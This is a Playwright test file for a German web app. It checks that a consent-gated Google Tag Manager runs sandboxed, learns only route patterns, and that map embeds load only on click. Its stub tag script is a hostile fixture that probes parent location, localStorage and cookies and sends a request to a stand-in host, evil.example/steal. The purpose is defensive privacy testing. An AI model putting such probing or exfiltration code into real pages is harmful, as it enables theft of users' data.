import type { BrowserContext, Page } from "@playwright/test";
import { limit } from "../../../packages/testing/src/how-many.ts";
import { callFrom } from "../../support/calls.ts";
import { password, people } from "../../support/people.ts";
import { expect, expectAccessible, test } from "../../support/test.ts";

const mapsKey = "maps-key-of-a-test-0001";

/** Stands in for Google's script: reports what it is told and what it can see, and tries what a tag must not be able to do. */
const tagManager = `
const open = (read) => { try { return String(read()); } catch { return "closed"; } };
document.cookie = "_ga=1; path=/";
const seen = {
  href: location.href,
  referrer: document.referrer,
  title: document.title,
  parent: open(() => parent.location.href),
  storage: open(() => localStorage.length),
  cookie: document.cookie,
};
const report = (told) =>
  fetch("https://region1.google-analytics.com/g/collect", { method: "POST", mode: "no-cors", body: JSON.stringify({ told, seen }) });
for (const told of dataLayer) report(told);
dataLayer.push = (told) => { report(told); return 1; };
fetch("https://evil.example/steal", { mode: "no-cors" }).catch(() => undefined);
`;

interface Report {
  told: Record<string, unknown>;
  seen: Record<string, string>;
}

/** Answers for Google's hosts, and records every request to a foreign host. */
async function watchGoogle(context: BrowserContext) {
  const [foreign, reports]: [string[], Report[]] = [[], []];
  await context.route(
    ({ hostname }) => hostname !== "localhost",
    async (route) => {
      const { hostname, pathname } = new URL(route.request().url());
      foreign.push(hostname + pathname);
      if (hostname === "www.googletagmanager.com")
        return route.fulfill({ contentType: "text/javascript", body: tagManager });
      if (hostname === "www.google.com") return route.fulfill({ contentType: "text/html", body: "<p>Karte</p>" });
      const body = route.request().postData();
      if (body !== null) reports.push(JSON.parse(body) as Report);
      return route.fulfill({ status: 204 });
    },
  );
  return { foreign, reports, views: () => reports.flatMap(({ told }) => (told["page"] ? [told["page"]] : [])) };
}

async function signInAt(page: Page, email: string, path: string): Promise<void> {
  await callFrom(page.request, "session.login", { email, password });
  await page.goto(path);
  await expect(page.locator("#page")).toBeVisible();
}

interface Tree {
  tree: { parts: { parts: { id: string }[] }[] }[];
}

async function firstAreaOf({ request }: Page): Promise<string> {
  const { tree } = await callFrom<Tree>(request, "session.bootstrap");
  return tree[0]?.parts[0]?.parts[0]?.id ?? "";
}

test("promise 56: a tag manager loads after consent, learns only routes, and leaves when told", {
  tag: "@long",
}, async ({ browser, stack }) => {
  const gateway = await stack.startGateway({ TAG_MANAGER_ID: "GTM-TEST123" });
  const context = await browser.newContext({ baseURL: gateway.url.replace("127.0.0.1", "localhost") });
  const google = await watchGoogle(context);
  const page = await context.newPage();
  await signInAt(page, people.orderManager, "/agency");
  const card = page.getByRole("region", { name: "Besuche messen" });
  await expect(card).toBeVisible();
  await expectAccessible(page);
  const stored = () => page.evaluate(() => Object.keys(localStorage).filter((key) => key.includes("visits")));
  expect([google.foreign, await stored()]).toEqual([[], []]);

  await card.getByRole("button", { name: "Zustimmen" }).click();
  await expect(card).toHaveCount(0);
  await page.getByRole("treeitem", { name: "Lüneburg" }).first().click();
  await page.getByRole("link", { name: /^Bestellungen/ }).click();
  await expect(page).toHaveURL(/orders$/);
  await page.goto(`${page.url()}?text=M%C3%BCller`);
  await expect.poll(google.views).toContain("/agency/:id/orders");
  const seen = google.reports[0]?.seen ?? {};
  expect(seen).toMatchObject({
    referrer: "",
    title: "Besuchsmessung",
    parent: "closed",
    storage: "closed",
    cookie: "_ga=1",
  });
  expect(seen["href"]).toMatch(/\/visits-frame$/);
  expect(JSON.stringify(google.reports)).not.toMatch(/[\da-f]{8}-[\da-f]{4}|M(?:ü|%C3)|Brandt|text=/);
  expect(google.foreign.filter((url) => url.startsWith("evil"))).toEqual([]);
  // The privacy page says three cookies, and tags add none.
  const names = (await context.cookies()).map(({ name }) => name);
  expect(new Set(names).size).toBe(names.length);
  expect(names.every((name) => ["partnerAuth", "FrontendSource", "partnerDevice"].includes(name))).toBe(true);

  await page.goto("/privacy");
  await page.getByRole("button", { name: "Zustimmung zurücknehmen" }).click();
  await expect(page.getByText("Sie haben abgelehnt.")).toBeVisible();
  await expectAccessible(page);
  const before = google.foreign.length;
  await page.goto("/");
  await page.waitForTimeout(600);
  expect(google.foreign.length).toBe(before);
  await context.close();
  await gateway.stop();
});

test("the question about visits leaves the buttons of the save bar free, also on a phone", { tag: "@long" }, async ({
  browser,
  stack,
}) => {
  const gateway = await stack.startGateway({ TAG_MANAGER_ID: "GTM-TEST123" });
  const context = await browser.newContext({ baseURL: gateway.url.replace("127.0.0.1", "localhost") });
  const page = await context.newPage();
  await signInAt(page, people.orderManager, "/user");
  await page.getByLabel("Vorname").fill("Leonore");
  for (const width of [1440, 360]) {
    await page.setViewportSize({ width, height: 740 });
    await expect(page.getByRole("region", { name: "Besuche messen" })).toBeVisible();
    // A trial waits until nothing covers the button, and does not press it.
    await page.getByRole("button", { name: /^Speichern/ }).click({ trial: true, timeout: limit(5000) });
    await page.getByRole("button", { name: "Verwerfen" }).click({ trial: true, timeout: limit(5000) });
  }
  await context.close();
  await gateway.stop();
});

test("with a maps key the order's sheet and the area's page show the provider's map after a click", {
  tag: "@long",
}, async ({ browser, stack }) => {
  const gateway = await stack.startGateway({ MAPS_KEY: mapsKey });
  const context = await browser.newContext({ baseURL: gateway.url.replace("127.0.0.1", "localhost") });
  const google = await watchGoogle(context);
  const page = await context.newPage();
  await signInAt(page, people.orderManager, "/agency");
  await page.getByRole("treeitem", { name: "Lüneburg" }).first().click();
  await page.getByRole("link", { name: /^Bestellungen/ }).click();
  await page.locator("[data-row-link]").first().click();
  const sheet = page.getByRole("complementary");
  const show = sheet.getByRole("button", { name: "Karte von Google zeigen" });
  await expect(show).toBeVisible();
  expect(google.foreign).toEqual([]);
  await show.click();
  await expect(sheet.frameLocator("iframe").getByText("Karte")).toBeVisible();
  expect(google.foreign).toEqual(["www.google.com/maps/embed/v1/place"]);
  await expectAccessible(page);

  await page.goto(`/delivery-area/${await firstAreaOf(page)}`);
  const section = page.getByRole("region", { name: "Anschrift auf der Karte" });
  await section.getByLabel("Anschrift").fill("Am Hafen 8, 21337 Lüneburg");
  await section.getByRole("button", { name: "Karte von Google zeigen" }).click();
  await expect(section.frameLocator("iframe").getByText("Karte")).toBeVisible();
  await expect(section.locator("iframe")).toHaveAttribute("src", /q=Am\+Hafen\+8%2C\+21337/);
  await context.close();
  await gateway.stop();
});
